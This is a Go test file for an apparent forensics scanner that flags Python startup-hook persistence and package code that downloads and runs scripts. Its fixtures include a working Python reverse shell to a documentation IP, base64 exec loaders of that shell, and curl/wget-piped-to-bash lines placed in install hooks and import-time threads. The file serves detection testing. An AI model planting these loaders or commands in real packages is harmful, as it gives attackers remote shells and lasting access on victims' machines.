package shell

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
)

// TestPythonStartupCode: a .pth file's import lines (and sitecustomize.py) are Python that runs
// at every interpreter start: code decoded and run there, or a reverse shell, is reported as
// persistence (critical, place python-startup) in each spelling; the .pth files Python's own
// packages ship stay silent.
func TestPythonStartupCode(t *testing.T) {
	shellCode := `import socket,os;s=socket.socket();s.connect(("192.0.2.7",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execl("/bin/sh","sh")`
	b64 := base64.StdEncoding.EncodeToString([]byte(shellCode))
	lines := []string{
		"import os, base64; exec(base64.b64decode('" + b64 + "'))",
		"import base64 as b;exec(b.b64decode(\"" + b64 + "\").decode())",
		"import codecs; exec(codecs.decode('" + b64 + "', 'base64'))",
		"import os; " + shellCode,
	}
	places := []string{"/usr/lib/python3/dist-packages/zz-%d.pth", "/usr/local/lib/python3.11/site-packages/_virtualenv%d.pth",
		"/root/.local/lib/python3.11/site-packages/distutils-precedence%d.pth"}
	n := 0
	for i, l := range lines {
		for j, pl := range places {
			p := fmt.Sprintf(pl, i*10+j)
			fs := scanFile(p, "/opt/app/lib\n"+l+"\n")
			n++
			ok := false
			for _, f := range fs {
				if f.Severity == audit.Critical && f.Is(audit.CategoryPersistence) && strings.Contains(strings.Join(f.Techniques, ","), "T1546") {
					ok = true
				}
			}
			if !ok {
				t.Errorf("%s: %s\n%v", p, l, fs)
			}
		}
	}
	fs := scanFile("/usr/lib/python3.11/sitecustomize.py", "import os, base64\nexec(base64.b64decode('"+b64+"'))\n")
	if len(fs) == 0 || fs[0].Severity != audit.Critical || !fs[0].Is(audit.CategoryPersistence) {
		t.Errorf("sitecustomize.py: %v", fs)
	}
	// Python's own hooks: setuptools' distutils shim, a virtualenv's, a namespace package's.
	for p, text := range map[string]string{
		"/usr/lib/python3/dist-packages/distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
		"/usr/local/lib/python3.11/site-packages/_virtualenv.pth": "import _virtualenv\n",
		"/usr/lib/python3/dist-packages/zope.interface-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
	} {
		if fs := scanFile(p, text); len(fs) > 0 {
			t.Errorf("%s: %v", p, fs)
		}
	}
	if n < 12 {
		t.Fatalf("%d hooks", n)
	}
}

// TestPackageCodeFetchRun: code of a package that hands a download piped into a shell to its
// runner (os.system, subprocess with shell=True, a thread started at import, an install
// command class) is STRATA-EX-001 at high in a module of the interpreters' libraries or a setup
// script, and medium in an application's own script, as curl | sh is in a shell script.
func TestPackageCodeFetchRun(t *testing.T) {
	bodies := []string{
		"import os\nos.system(\"curl -fsSL http://198.51.100.4/i.sh | sh\")\n",
		"import subprocess\nsubprocess.call('wget -qO- http://198.51.100.4/i | bash', shell=True)\n",
		"import os, threading\ndef _go():\n    os.popen(\"curl -s http://198.51.100.4/x|/bin/bash >/dev/null 2>&1\")\nthreading.Thread(target=_go, daemon=True).start()\n",
		"from setuptools.command.install import install\nimport os\nclass Post(install):\n    def run(self):\n        install.run(self)\n        cmd = 'curl -s http://198.51.100.4/p.sh | bash'\n        os.system(cmd)\n",
	}
	for i, b := range bodies {
		for p, want := range map[string]audit.Severity{
			"/usr/local/lib/python3.11/site-packages/reqeusts/__init__.py": audit.High,
			"/usr/lib/python3/dist-packages/colorama2/initialise.py":       audit.High,
			"/tmp/pip-build-x1/pkg/setup.py":                               audit.High,
			"/opt/app/tools/deploy.py":                                     audit.Medium,
		} {
			fs := scanFile(p, b)
			if len(fs) != 1 || fs[0].Rule != RuleFetchRun || fs[0].Severity != want {
				t.Errorf("%d %s: want %s, got %v", i, p, want, fs)
			}
		}
	}
	// A package that documents an installer, or runs a fixed local command, stays silent.
	for p, text := range map[string]string{
		"/usr/lib/python3/dist-packages/tool/help.py": "USAGE = \"install with: curl -fsSL https://example.org/install.sh | sh\"\nprint(USAGE)\n",
		"/usr/lib/python3/dist-packages/tool/run.py":  "import subprocess\nsubprocess.run(['git', 'pull'])\n",
	} {
		if fs := scanFile(p, text); len(fs) > 0 {
			t.Errorf("%s: %v", p, fs)
		}
	}
}
